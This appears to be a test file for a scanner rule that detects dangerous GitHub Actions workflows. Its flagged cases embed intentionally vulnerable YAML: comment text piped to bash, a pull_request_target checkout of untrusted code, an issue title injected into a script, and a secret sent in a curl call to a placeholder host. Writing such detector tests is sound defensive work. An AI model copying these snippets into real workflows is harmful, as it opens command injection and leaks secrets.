import { describeCodeRule, py, sh, skill, text } from '../../testing/code-rule-cases.ts';
import { workflowRisks } from './workflow-risks.rule.ts';

describeCodeRule(workflowRisks, {
  caught: [
    skill('workflow that lies elsewhere', {
      'assets/d.yml':
        'on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.comment.body }}" | bash\n',
    }),
    skill('target trigger', {
      '.github/workflows/a.yml':
        'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n',
    }),
    skill('title in a script', {
      '.github/workflows/b.yml':
        'on: issues\njobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
    }),
    skill('secret on a command line', {
      '.github/workflows/c.yml':
        'on: push\njobs:\n  a:\n    steps:\n      - run: curl https://a.example.invalid/?t=${{ secrets.TOKEN }}\n',
    }),
  ],
  quiet: [
    skill('lint', {
      '.github/workflows/a.yml':
        'on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n',
    }),
    text('x'),
    sh('gh workflow list'),
  ],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
